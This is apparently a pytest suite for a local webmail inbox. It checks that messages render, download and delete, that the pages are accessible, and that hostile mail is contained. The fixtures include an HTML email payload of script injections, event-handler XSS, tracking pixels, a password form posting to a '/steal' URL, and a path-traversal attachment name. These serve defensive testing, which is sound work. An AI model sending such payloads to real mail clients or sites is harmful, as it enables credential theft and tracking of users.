"""The inbox in a browser: real mail, read by a person, and mail that would harm her."""

import contextlib
import socket
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import httpx
import pytest

from curso.launch.layout import ROOT
from curso.launch.npm import NoPackagesError, ensure_node_modules
from tests.course.inbox_bench import InboxBench, inbox_bench
from tests.course.visit import Visit

HTML = {"Accept": "text/html"}


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InboxBench]:
    with inbox_bench(tmp_path_factory.mktemp("correo")) as bench:
        yield bench


@contextlib.contextmanager
def inside(bench: InboxBench, browser: Any, **context: Any) -> Iterator[Visit]:
    """A browser that was let in."""
    with Visit(browser, bench.address, **context) as visit:
        visit.page.goto(bench.link())
        assert visit.page.url == bench.first
        yield visit


def order(subject: str = "Tu pedido va en camino") -> EmailMessage:
    made = EmailMessage()
    made["From"] = "Librería Ñandú <tienda@example.com>"
    made["To"] = "Ana <ana@example.org>"
    made["Subject"] = subject
    made.set_content("Llegará mañana.\n")
    made.add_alternative("<p>Llegará <b>mañana</b>.</p>", subtype="html")
    made.add_attachment(b"PK\x03\x04", maintype="application", subtype="zip", filename="año.zip")
    return made


@pytest.fixture
def full(bench: InboxBench) -> InboxBench:
    bench.send(order("Uno"))
    bench.send(order())
    return bench


def test_a_mail_arrives_is_read_in_text_and_html_and_its_attachment_kept(
    full: InboxBench, browser: Any, tmp_path: Path
) -> None:
    with inside(full, browser, locale="es-MX") as visit:
        page = visit.page
        assert page.title() == "Bandeja de entrada · correo-sereno-12 (correo) · tienda"
        page.get_by_role("link", name="Tu pedido va en camino").first.click()
        assert page.locator("h1").text_content() == "Tu pedido va en camino"
        assert page.locator("main > pre").text_content() == "Llegará mañana.\n"
        frame = page.frame_locator("iframe")
        assert frame.locator("b").text_content() == "mañana"
        assert "Librería Ñandú <tienda@example.com>" in page.locator("dl").first.text_content()
        with page.expect_download() as download:
            page.get_by_role("link", name="año.zip").click()
        assert download.value.suggested_filename == "año.zip"
        download.value.save_as(tmp_path / "it")
        assert (tmp_path / "it").read_bytes() == b"PK\x03\x04"
        page.get_by_role("link", name="Mensaje tal como llegó").click()
        assert "Subject: Tu pedido va en camino" in page.locator("body").text_content()
        assert visit.foreign == [] and visit.wrong == []


def test_all_is_thrown_away_with_two_clicks_and_an_empty_inbox_says_how_to_send(
    full: InboxBench, browser: Any
) -> None:
    with inside(full, browser, locale="en-GB", java_script_enabled=False) as visit:
        page = visit.page
        assert page.locator("html").get_attribute("lang") == "en"
        page.get_by_text("Delete all messages").click()
        page.get_by_role("button", name="Yes, delete").click()
        assert page.url == full.first
        assert "nothing leaves your machine" in page.locator("main").text_content()
        assert "smtplib" in page.locator("pre").text_content()
        assert visit.wrong == []


def test_one_message_is_thrown_away_and_its_page_then_says_so(
    bench: InboxBench, browser: Any
) -> None:
    bench.send(order("Fuera"))
    with inside(bench, browser, locale="es-AR") as visit:
        page = visit.page
        page.get_by_role("link", name="Fuera").click()
        gone = page.url
        page.get_by_text("Borrar este mensaje").click()
        page.get_by_role("button", name="Sí, borrar").click()
        assert page.url == bench.first
        assert page.get_by_role("link", name="Fuera").count() == 0
        assert page.goto(gone).status == 404
        assert "Vuelve a la primera" in page.locator("main").text_content()


class Listener:
    """A stranger's machine, that only counts who comes."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.visits = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.visits += 1
            connection.close()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


HARMFUL = """
<html><head><base href="http://{host}/"><meta http-equiv="refresh" content="0;url=http://{host}/r">
<link rel="preconnect" href="http://{host}"><link rel="dns-prefetch" href="http://{host}">
<link rel="prefetch" href="http://{host}/p"><link rel="stylesheet" href="http://{host}/s.css">
<link rel="icon" href="http://{host}/i"><link rel="preload" as="image" href="http://{host}/q">
<style>@import "http://{host}/i.css"; @font-face {{font-family: x; src: url(http://{host}/f)}}
p {{ background: url(http://{host}/b.png); font-family: x }}</style></head>
<body onload="document.title='ran'"><script>parent.document.title = "ran"; fetch("http://{host}/")</script>
<p onclick="top.location='http://{host}/'">hola</p><img src="http://{host}/pixel.png">
<img src=x onerror="parent.document.title='ran'"><iframe src="http://{host}/frame"></iframe>
<iframe srcdoc="<script>top.document.title='ran'</script>"></iframe>
<object data="http://{host}/o"></object><embed src="http://{host}/e"><video src="http://{host}/v">
</video><audio src="http://{host}/a"></audio><svg><image href="http://{host}/svg.png"/></svg>
<form action="http://{host}/steal"><input name="password"><button id="send">OK</button></form>
<a id="away" href="http://{host}/away" ping="http://{host}/ping">ir</a>
<a id="blank" href="http://{host}/away" target="_blank">ir</a>
<a id="top" href="http://{host}/away" target="_top">ir</a>
<a id="js" href="javascript:top.document.title='ran'">ir</a>
"""


def test_a_hostile_mail_runs_nothing_loads_nothing_and_leads_nowhere(
    bench: InboxBench, browser: Any
) -> None:
    stranger = Listener()
    mail = EmailMessage()
    mail["From"] = '"<script>document.title=1</script>" <x@example.com>'
    mail["Subject"] = "<img src=x onerror=alert(1)> & </title><script>alert(1)</script>"
    mail.set_content("<script>document.title='ran'</script>")
    html = HARMFUL.format(host=f"127.0.0.1:{stranger.port}")
    mail.add_alternative(html, subtype="html")
    mail.add_attachment(html.encode(), maintype="text", subtype="html", filename="../<b>.html")
    bench.send(mail)
    # Not routed: what the browser would do by itself must reach the listener, if it does.
    context = browser.new_context(locale="es-PE")
    try:
        page = context.new_page()
        page.goto(bench.link())
        page.locator("table a").first.click()
        assert page.locator("h1").text_content() == mail["Subject"]
        first = page.url
        frame = page.frame_locator("iframe")
        assert frame.locator("p").text_content() == "hola"
        for number in range(frame.locator("a").count()):
            frame.locator("a").nth(number).click(force=True)
        away = page.get_by_role("link", name=f"http://127.0.0.1:{stranger.port}/away")
        assert (away.count(), away.get_attribute("rel")) == (1, "noopener noreferrer")
        frame_url = f"{first}/html"
        page.wait_for_timeout(300)
        assert frame.locator("p").text_content() == "hola"
        assert (page.url, len(context.pages)) == (first, 1)
        assert "ran" not in page.title()
        # Nor opened by itself, as someone does who copies the frame's address.
        page.goto(frame_url)
        page.wait_for_timeout(500)
        assert page.url == frame_url and page.title() != "ran"
        assert page.evaluate("self.origin") == "null"
        assert stranger.visits == 0
    finally:
        context.close()
        stranger.close()


def test_what_a_mail_brings_is_never_a_page_of_ours(bench: InboxBench) -> None:
    mail = order()
    mail.add_attachment(b"<script>1</script>", maintype="text", subtype="html", filename="x.html")
    bench.send(mail)
    with httpx.Client(trust_env=False, base_url=bench.address, headers=HTML) as http:
        assert http.get(bench.link(), follow_redirects=True).status_code == 200
        newest = max(int(n) for n in _numbers(http.get(bench.first).text))
        page = http.get(f"{bench.first}/messages/{newest}").text
        for number in _numbers(page, f"messages/{newest}/"):
            found = http.get(f"{bench.first}/messages/{newest}/{number}")
            assert found.headers["content-type"] == "application/octet-stream"
            assert found.headers["content-disposition"].startswith("attachment; ")
            assert found.headers["content-security-policy"].startswith("sandbox; ")
        raw = http.get(f"{bench.first}/messages/{newest}/raw")
        assert raw.headers["content-type"] == "text/plain; charset=utf-8"
        assert raw.headers["x-content-type-options"] == "nosniff"
        for wrong in ("x", "99999999", "%C2%B2", "-1", "1/99", "1/x"):
            assert http.get(f"{bench.first}/messages/{wrong}").status_code == 404, wrong
        # A page of an app on this machine is the same site: cookies come along, Origin tells.
        app = {"Origin": "http://127.0.0.1:20001"}
        assert http.post(f"{bench.first}/delete", headers=app).status_code == 403
        assert http.post(f"{bench.first}/delete").status_code == 403
        assert http.get(f"{bench.first}/messages/{newest}").status_code == 200


def _numbers(text: str, before: str = "messages/") -> list[str]:
    pieces = [piece.partition('"')[0] for piece in text.split(before)[1:]]
    return [piece for piece in pieces if piece.isdigit()]


RUN = """async () => (await axe.run(document, {resultTypes: ["violations"]})).violations.map(
  v => [v.id, v.nodes.map(n => n.target.join())])"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 360])
def test_the_inbox_is_for_everybody_light_and_dark_wide_and_narrow(
    full: InboxBench, browser: Any, scheme: str, width: int
) -> None:
    try:
        packages = ensure_node_modules(ROOT, dev=True)
    except NoPackagesError as error:
        pytest.skip(f"npm or its packages are missing: {error}")
    axe = (packages / "axe-core" / "axe.min.js").read_text(encoding="utf-8")
    context = {"viewport": {"width": width, "height": 800}, "color_scheme": scheme}
    with inside(full, browser, bypass_csp=True, locale="es-CO", **context) as visit:
        page = visit.page
        for step in range(2):
            page.evaluate(axe)
            assert page.evaluate(RUN) == []
            wide = page.evaluate("document.documentElement.scrollWidth")
            assert wide <= width, (step, wide)
            page.locator("table a").first.click() if step == 0 else None


def test_a_server_that_is_silent_is_said_on_a_page(browser: Any, tmp_path: Path) -> None:
    with inbox_bench(tmp_path) as own, inside(own, browser, locale="es-UY") as visit:
        own.mail.end()
        assert visit.page.goto(own.first).status == 503
        assert "minidyno addons:wait" in visit.page.locator("main").text_content()
